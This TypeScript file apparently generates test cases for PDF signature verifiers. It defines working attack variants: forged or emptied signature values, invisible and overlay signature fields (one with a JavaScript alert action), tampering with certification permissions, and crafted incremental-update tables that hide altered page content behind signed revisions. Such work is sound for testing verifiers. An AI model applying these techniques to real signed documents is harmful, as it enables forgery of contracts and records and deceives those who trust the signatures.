import { addObject } from '../pdf/append.ts'
import type { Draft } from '../pdf/append.ts'
import { loadPlain, openPdf, resolveArray, resolveDict } from '../pdf/file.ts'
import { catalogOf } from '../pdf/pages.ts'
import type { SignatureField } from '../pdf/pages.ts'
import { dict, isKind, name, raw, ref, textString, withEntries } from '../pdf/value.ts'
import type { PdfDict, PdfValue } from '../pdf/value.ts'
import { writeValue } from '../pdf/write.ts'
import { editForm } from './attacks.ts'
import { append, drawing, editCatalog, field, firstPage, form, put, whiteBox } from './edit.ts'
import type { Attack } from './edit.ts'

/** Rewrites the dictionary of the last signature, as in the universal forgeries (USF). */
export const editSignature =
  (change: (value: PdfDict, draft: Draft) => PdfValue, wanted = 'unit-5'): Attack =>
  (pdf) =>
    append(pdf, (draft) => {
      const { dict: signed, value } = field(draft, wanted)
      const pointer = signed.get('V')
      if (isKind(pointer, 'ref') && value) draft.objects.set(pointer.num, change(value, draft))
    })

const withValue = (key: string, value: PdfValue) => editSignature((old) => new Map([...old, [key, value]]))
const without = (key: string) => editSignature((old) => new Map([...old].filter(([one]) => one !== key)))

/** Universal signature forgery: the value is missing or empty, the range makes no sense. */
export const forgeries: Readonly<Record<string, Attack>> = {
  'Contents is missing': without('Contents'),
  'Contents is null': withValue('Contents', null),
  'Contents is empty': withValue('Contents', raw('<>')),
  'Contents is a zero byte': withValue('Contents', raw('<00>')),
  'Contents has an odd digit': withValue('Contents', raw('<308>')),
  'Contents is in words': withValue('Contents', textString('chu ky')),
  'ByteRange is missing': without('ByteRange'),
  'ByteRange is null': withValue('ByteRange', null),
  'ByteRange is empty': withValue('ByteRange', []),
  'ByteRange has one range': withValue('ByteRange', [0, 100]),
  'ByteRange is negative': withValue('ByteRange', [0, -1, -1, -1]),
  'ByteRange holds null': withValue('ByteRange', [0, null, 1, 1]),
  'ByteRange is larger than any file': withValue('ByteRange', raw('[0 999999999 999999999 999999999]')),
  'ByteRange is kept in another object': editSignature((old, draft) => {
    const kept = ref(addObject(draft, [0, 10, 20, 30]))
    return new Map([...old, ['ByteRange', kept] as const])
  }),
  'the value of the field is null': editSignature(() => null),
}

const wider = [0, 0, 595, 842]

interface Laid {
  readonly entries?: (draft: Draft) => Record<string, PdfValue>
  readonly rect?: PdfValue
}

/** A field that nobody prepared, on the first page and in the form. */
export const layField =
  ({ entries = () => ({}), rect = wider }: Laid): Attack =>
  (pdf) =>
    append(pdf, (draft) => {
      const page = firstPage(draft)
      const place = { Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), Rect: rect, F: 4, P: page.ref }
      const laid = ref(addObject(draft, dict({ ...place, T: textString('la'), ...entries(draft) })))
      put(draft, page, { Annots: [...resolveArray(draft.file, page.dict.get('Annots')), laid] })
      addToForm(draft, laid)
    })

export function addToForm(draft: Draft, laid: PdfValue): void {
  const pointer = catalogOf(draft.file).dict.get('AcroForm')
  const old = resolveDict(draft.file, pointer)
  if (!isKind(pointer, 'ref') || !old) throw new Error('no form')
  const fields = [...resolveArray(draft.file, old.get('Fields')), laid]
  draft.objects.set(pointer.num, withEntries(old, { Fields: fields }))
}

const picture = (draft: Draft) => ({ AP: dict({ N: form(draft, whiteBox) }) })
const copied = (draft: Draft, from: SignatureField) => ref(addObject(draft, new Map(from.value ?? [])))

/** The "sneaky" ones: what came in looks like the place of a signature, or hides behind what may come. */
export const sneaky: Readonly<Record<string, Attack>> = {
  'an empty visible field laid over the page': layField({ entries: picture }),
  'a field with the copy of a signature laid over the page': layField({
    entries: (draft) => ({ ...picture(draft), V: copied(draft, field(draft, 'unit-1')) }),
  }),
  'an invisible field that leads to the page': layField({
    rect: [0, 0, 0, 0],
    entries: (draft) => ({ Rep: firstPage(draft).ref }),
  }),
  'an invisible field with an action': layField({
    rect: [0, 0, 0, 0],
    entries: () => ({ A: dict({ S: name('JavaScript'), JS: textString('app.alert(1)') }) }),
  }),
  'a field with a background and no picture': layField({ entries: () => ({ MK: dict({ BG: [1, 1, 1] }) }) }),
  'validation data that lead to another drawing': editCatalog((draft) => ({
    DSS: dict({ Certs: [drawing(draft, whiteBox)], Extra: drawing(draft, whiteBox) }),
  })),
  'validation data that lead to the page': editCatalog((draft) => ({ DSS: dict({ Certs: [firstPage(draft).ref] }) })),
  'an extension that carries a drawing': editCatalog((draft) => ({
    Extensions: dict({ X: drawing(draft, whiteBox) }),
  })),
  'a form that has viewers draw its fields anew': editForm(() => ({ NeedAppearances: true })),
  'a form of another kind (XFA)': editForm((draft) => ({ XFA: drawing(draft, '<xdp/>') })),
  'a second form of fonts under an old name': editForm((draft) => ({
    DR: dict({ XObject: dict({ X: firstPage(draft).ref }) }),
  })),
}

/** What a certifying signature allows is changed after it. */
export const certifications: Readonly<Record<string, Attack>> = {
  'the certification is taken out of the catalog': editCatalog(() => ({ Perms: null })),
  'another signature is named as the certifying one': editCatalog((draft) => ({
    Perms: dict({ DocMDP: field(draft, 'unit-2').dict.get('V') ?? null }),
  })),
  'the certifying signature itself allows annotations now': editSignature(
    (old) => new Map([...old, ['Reference', [certifies(3)]]]),
    'unit-1',
  ),
  'usage rights are added': editCatalog((draft) => ({
    Perms: dict({ UR3: field(draft, 'unit-2').dict.get('V') ?? null }),
  })),
}

const certifies = (level: number) =>
  dict({ TransformMethod: name('DocMDP'), TransformParams: dict({ P: level, V: name('1.2') }) })

const latin = (text: string) => Buffer.from(text, 'latin1')

/** Saved "incrementally" in ways that readers mend and naive verifiers overlook (ISA). */
export const careless: Readonly<Record<string, Attack>> = {
  'a body without a table': (pdf) => Buffer.concat([pdf, latin(`${evilBody(pdf)}%%EOF\n`)]),
  'a body and the old startxref': (pdf) => {
    const file = openPdf(pdf)
    return Buffer.concat([pdf, latin(`${evilBody(pdf)}startxref\n${file.sections[0]?.offset ?? 0}\n%%EOF\n`)])
  },
  'a table that goes back to an older object': (pdf) => goBack(pdf),
  'a table that frees the drawing of a page': (pdf) => {
    const contents = contentsOf(pdf)
    return withTable(pdf, `${contents} 1\n0000000000 65535 f \n`)
  },
  'a table with the same object twice': (pdf) => {
    const line = `${String(pdf.length).padStart(10, '0')} 00000 n \n`
    return withTable(pdf, `${contentsOf(pdf)} 1\n${line}${contentsOf(pdf)} 1\n${line}`)
  },
  'a drawing inside validation data, for readers that look for objects': (pdf) =>
    append(pdf, (draft) => {
      const proof = ref(addObject(draft, { kind: 'stream', dict: dict({}), data: latin(`\n${evilBody(pdf)}`) }))
      put(draft, catalogOf(draft.file), { DSS: ref(addObject(draft, dict({ Certs: [proof] }))) })
    }),
  'a second trailer inside validation data': (pdf) =>
    append(pdf, (draft) => {
      const data = latin(`\ntrailer\n<</Root ${contentsOf(pdf)} 0 R>>\n`)
      const proof = ref(addObject(draft, { kind: 'stream', dict: dict({}), data }))
      put(draft, catalogOf(draft.file), { DSS: ref(addObject(draft, dict({ Certs: [proof] }))) })
    }),
  'a newer revision laid before an older one': (pdf) => layBefore(pdf),
}

function contentsOf(pdf: Uint8Array): number {
  const contents = firstPage({ file: openPdf(pdf), objects: new Map(), next: 0 }).dict.get('Contents')
  if (!isKind(contents, 'ref')) throw new Error('no contents')
  return contents.num
}

const evilBody = (pdf: Uint8Array) =>
  `${contentsOf(pdf)} 0 obj\n<</Length ${whiteBox.length}>>\nstream\n${whiteBox}\nendstream\nendobj\n`

function withTable(pdf: Uint8Array, lines: string): Uint8Array {
  const { sections, trailer } = openPdf(pdf)
  const root = trailer.get('Root')
  const kept = `/Size ${Number(trailer.get('Size'))} /Root ${isKind(root, 'ref') ? root.num : 0} 0 R`
  const table = `xref\n${lines}trailer\n<<${kept} /Prev ${sections[0]?.offset ?? 0}>>\n`
  return Buffer.concat([pdf, latin(`${table}startxref\n${pdf.length}\n%%EOF\n`)])
}

/** The drawing as it was, in the newest revision; behind it an older one with another, for readers that take the last. */
function layBefore(pdf: Uint8Array): Uint8Array {
  const file = openPdf(pdf)
  const num = contentsOf(pdf)
  const entry = file.entries.get(num)
  if (entry?.kind !== 'plain') throw new Error('no plain drawing')
  const same = `${file.text.slice(entry.offset, loadPlain(file, entry.offset).until)}\n`
  const evil = evilBody(pdf)
  const trailer = (previous: number) =>
    writeValue(withEntries(file.trailer, { Prev: raw(pad(previous)) })).toString('latin1')
  const table = (at: number, previous: number) => `xref\n${num} 1\n${pad(at)} 00000 n \ntrailer\n${trailer(previous)}\n`
  const evilAt = pdf.length + same.length + table(0, 0).length
  const newest = table(pdf.length, evilAt + evil.length)
  const older = table(evilAt, file.sections[0]?.offset ?? 0)
  const end = `startxref\n${pdf.length + same.length}\n%%EOF\n`
  return Buffer.concat([pdf, latin(`${same}${newest}${evil}${older}${end}`)])
}

const pad = (at: number) => String(at).padStart(10, '0')

/** The page as it was before it had fields: its bytes are all in the file, and signed. */
function goBack(pdf: Uint8Array): Uint8Array {
  const { sections } = openPdf(pdf)
  const page = firstPage({ file: openPdf(pdf), objects: new Map(), next: 0 }).ref.num
  const last = catalogOf(openPdf(pdf)).ref.num
  const num = sections.filter(({ entries }) => entries.has(page)).length > 1 ? page : last
  const oldest = sections.flatMap(({ entries }) => entries.get(num) ?? []).at(-1)
  if (oldest?.kind !== 'plain') throw new Error('no older object')
  return withTable(pdf, `${num} 1\n${String(oldest.offset).padStart(10, '0')} 00000 n \n`)
}
